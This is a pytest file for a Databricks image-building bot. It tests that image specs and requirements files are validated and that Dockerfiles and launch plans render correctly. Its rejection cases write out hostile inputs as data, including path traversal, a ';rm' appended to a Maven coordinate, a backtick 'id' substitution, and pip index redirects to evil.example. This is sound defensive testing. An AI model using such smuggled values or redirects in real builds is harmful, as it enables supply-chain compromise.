"""Image content beyond pip and apt: validation (field, value, fix), requirements files as checked data, the
final stage's steps, init scripts in every launch."""

from __future__ import annotations

import json
from typing import Any

import pytest

from bot.domain.catalog import dump_catalog, image_from_dict, image_to_dict, parse_catalog
from bot.domain.dockerfile import render_build, spec_hash
from bot.domain.image_content import INIT_SCRIPT_DIR, canonical_requirements
from bot.errors import InvalidInput, InvalidInputs

SHA = "a" * 64
BASE = {"name": "team", "base": "databricksruntime/standard:15.4-LTS", "repository": "127.0.0.1:5000/team"}


def spec(**fields: Any):
    return image_from_dict(BASE | fields)


@pytest.mark.parametrize(
    ("fields", "field", "reason"),
    [
        ({"requirements": ["/etc/passwd"]}, "requirements", "is not a relative path"),
        ({"requirements": ["../secrets.txt"]}, "requirements", "is not a relative path"),
        ({"requirements": ["reqs/../../x.txt"]}, "requirements", "leaves or skips through directories"),
        ({"init_scripts": ["a/run.sh", "b/run.sh"]}, "init_scripts", "has two scripts of the same name"),
        ({"files": {"etc/x": "x"}}, "files.etc/x", "is not an absolute file path"),
        ({"files": {"/opt/../etc/x": "x"}}, "files./opt/../etc/x", "is not a normalized path"),
        ({"files": {"/etc/krb5.conf": "krb5.conf"}}, "files./etc/krb5.conf", "would change /etc"),
        ({"files": {"/databricks/python3/lib/x.pth": "x"}}, "files./databricks/python3/lib/x.pth", "would change"),
        ({"files": {"/proc/x": {"source": "x", "allow_system": True}}}, "files./proc/x", "is inside /proc"),
        ({"files": {"/databricks/jars/a.jar": "a.jar"}}, "files./databricks/jars/a.jar", "is inside /databricks/jars"),
        ({"files": {"/opt/x": {"url": "https://h/x"}}}, "files./opt/x.sha256", "is missing"),
        ({"files": {"/opt/x": {"url": "http://h/x", "sha256": SHA}}}, "files./opt/x.url", "is not https"),
        ({"files": {"/opt/x": {"url": "https://u:p@h/x", "sha256": SHA}}}, "files./opt/x.url", "carries credentials"),
        ({"files": {"/opt/x": {"source": "x", "mode": "4755"}}}, "files./opt/x.mode", "is not a file mode"),
        ({"files": {"/opt/x": {"url": "https://h/x", "sha256": "abc"}}}, "files./opt/x.sha256", "is not a sha256"),
        ({"jars": ["postgresql"]}, "jars", "is not Maven coordinates"),
        ({"jars": ["org.x:a:1;rm"]}, "jars", "is not Maven coordinates"),
        ({"jars": [{"url": "https://h/a.jar"}]}, "jars.sha256", "is missing"),
        ({"jars": [{"url": "https://h/a.zip", "sha256": SHA}]}, "jars.url", "does not name a .jar file"),
        ({"jars": ["g:a:1", {"url": "https://h/a-1.jar", "sha256": SHA}]}, "jars", "puts two jars under the same"),
        ({"r_packages": ["data.table"]}, "r_packages", "cannot be installed: standard has no R"),
        ({"r_packages": ["x;y"], "base": "databricksruntime/rbase:15.4-LTS"}, "r_packages", "is not an R package"),
        ({"apk": ["curl"]}, "apk", "is for Alpine bases"),
        ({"apk": ["curl"], "apt": ["curl"], "base": "alpine:3.20"}, "apk", "next to apt"),
        ({"python": "/usr/bin/python3"}, "python", "is for own bases only"),
        ({"python": "python3", "base": "ubuntu:22.04"}, "python", "is not a python interpreter path"),
        ({"base": "ubuntu:22.04", "requirements": ["r.txt"]}, "python", "is missing: the base is not a Databricks"),
        ({"constraints": ["c.txt"]}, "constraints", "constrain nothing"),
        ({"sources": {"r.txt": SHA}}, "sources", "is not a known image field"),
    ],
)
def test_rejections_name_field_value_and_fix(fields: dict[str, Any], field: str, reason: str) -> None:
    with pytest.raises((InvalidInput, InvalidInputs)) as caught:
        spec(**fields)
    problems = caught.value.problems if isinstance(caught.value, InvalidInputs) else [caught.value]
    assert any(p.field == field and p.reason.startswith(reason) and p.fix for p in problems), [
        p.message for p in problems
    ]


def test_the_catalog_file_round_trips_content() -> None:
    text = f"""
[[image]]
name = "team"
base = "databricksruntime/standard:15.4-LTS"
repository = "127.0.0.1:5000/team"
requirements = ["requirements/team.txt"]
constraints = ["constraints.txt"]
init_scripts = ["init/start-daemon.sh"]
jars = ["org.postgresql:postgresql:42.7.3", {{ url = "https://h.example/lib-1.jar", sha256 = "{SHA}" }}]

[image.files]
"/opt/team/config.yaml" = "conf/config.yaml"
"/opt/team/bin/tool" = {{ url = "https://h.example/tool", sha256 = "{SHA}", mode = "0755" }}
"/etc/team.conf" = {{ source = "conf/team.conf", allow_system = true }}
"""
    catalog = parse_catalog(text)
    again = parse_catalog(dump_catalog(catalog))
    assert again == catalog
    content = catalog.images[0].content
    assert content.local_paths() == [
        "requirements/team.txt",
        "constraints.txt",
        "init/start-daemon.sh",
        "conf/config.yaml",
        "conf/team.conf",
    ]
    assert content.init_script_paths() == [f"{INIT_SCRIPT_DIR}/start-daemon.sh"]
    assert [j.filename for j in content.jars] == ["postgresql-42.7.3.jar", "lib-1.jar"]
    assert content.jars[0].maven_path() == "org/postgresql/postgresql/42.7.3/postgresql-42.7.3.jar"
    # the file form never carries sources; the store's record does, and reads back the same spec
    recorded = image_from_dict(
        image_to_dict(catalog.images[0], record=True) | {"sources": {"constraints.txt": SHA}}, stored=True
    )
    assert "sources" not in image_to_dict(recorded) and image_to_dict(recorded, record=True)["sources"]
    assert spec_hash(recorded) != spec_hash(catalog.images[0])  # a file's content is part of the spec


def test_requirements_files_are_checked_and_canonical() -> None:
    text = b"""# team requirements
pandas==2.2.2 \\
    --hash=sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa \\
    --hash sha256:bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb
numpy<2; python_version < "3.12"   # a marker
Requests[socks] >= 2.31
"""
    assert canonical_requirements(text, "requirements").decode().splitlines() == [
        "pandas==2.2.2 --hash=sha256:" + "a" * 64 + " --hash=sha256:" + "b" * 64,
        'numpy<2; python_version < "3.12"',
        "Requests[socks]>=2.31",
    ]


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        (b"--index-url https://evil.example/simple/\npandas\n", "is a pip option"),
        (b"-r other.txt\n", "is a pip option"),
        (b"-e git+https://github.com/x/y.git\n", "is a pip option"),
        (b"pandas --trusted-host evil.example\n", "is not allowed here"),
        (b"pandas --hash=md5:abc\n", "is not allowed here"),
        (b"https://evil.example/${HOME}.whl\n", "uses ${"),
        (b"pandas; os_name == `id`\n", "contains characters that are not allowed"),
        (b"\xff\xfe", "is not UTF-8 text"),
    ],
)
def test_requirements_files_refuse_options_and_expansion(text: bytes, reason: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        canonical_requirements(text, "image[team].requirements: r.txt")
    assert caught.value.reason.startswith(reason)
    assert caught.value.field.startswith("image[team].requirements: r.txt")


def test_hashes_are_not_allowed_in_constraints() -> None:
    with pytest.raises(InvalidInput):
        canonical_requirements(b"pandas==2.2.2 --hash=sha256:" + b"a" * 64 + b"\n", "c", constraints=True)


def test_the_final_stage_copies_content_once_with_its_modes() -> None:
    s = spec(
        base="databricksruntime/rbase:15.4-LTS",
        init_scripts=["init/start.sh"],
        files={"/opt/team/tool": {"url": "https://h.example/tool", "sha256": SHA, "mode": "0755"}},
        jars=["org.x:lib:1.0"],
        r_packages=["data.table", "arrow"],
    )
    plan = render_build(
        s,
        sources={"init/start.sh": b"#!/bin/sh\necho hi\n"},
        downloads={"/opt/team/tool": b"TOOL", "/databricks/jars/lib-1.0.jar": b"JAR"},
    )
    final = plan.dockerfile.split("\nFROM ")[-1]
    assert final.count("COPY dcs-image/ /") == 1
    code = "install.packages(c('arrow', 'data.table'), repos = 'https://cloud.r-project.org'); "
    code += "library('arrow'); library('data.table')"
    assert "RUN " + json.dumps(["Rscript", "-e", code]) in final
    assert plan.context["dcs-image/opt/dcs/init-scripts/start.sh"] == b"#!/bin/sh\necho hi\n"
    assert plan.modes["dcs-image/opt/dcs/init-scripts/start.sh"] == 0o755
    assert plan.modes["dcs-image/opt/team/tool"] == 0o755
    assert plan.modes["dcs-image/databricks/jars/lib-1.0.jar"] == 0o644
    alpine = render_build(spec(base="alpine:3.20", apk=["curl", "bash"]))
    assert 'RUN ["apk", "add", "--no-cache", "bash", "curl"]' in alpine.dockerfile
    assert "apt-get" not in alpine.dockerfile


def test_every_launch_runs_the_images_init_scripts_first_and_may_add_its_own() -> None:
    from bot.domain.clusterspec import ImageSource, LaunchContext, LaunchRequest, plan_launch
    from tests.fakes.databricks import NODE_TYPES, SPARK_VERSIONS

    image = ImageSource(
        spec(init_scripts=["init/start-daemon.sh"], repository="docker.io/team/x"), 3, "sha256:" + "c" * 64
    )
    context = LaunchContext("alice@example.com", "U1", "req1", SPARK_VERSIONS, NODE_TYPES)
    base = {"image": "team", "runtime": "15.4.x-scala2.12", "node_type": "m5d.large", "num_workers": 1}
    plan = plan_launch(LaunchRequest(**base), image, context)  # type: ignore[arg-type]
    assert plan.body["init_scripts"] == [{"file": {"destination": "file:/opt/dcs/init-scripts/start-daemon.sh"}}]
    own = LaunchRequest(**base, init_scripts=("/Volumes/main/team/init/extra.sh",))  # type: ignore[arg-type]
    assert plan_launch(own, image, context).body["init_scripts"] == [
        {"file": {"destination": "file:/opt/dcs/init-scripts/start-daemon.sh"}},
        {"volumes": {"destination": "/Volumes/main/team/init/extra.sh"}},
    ]
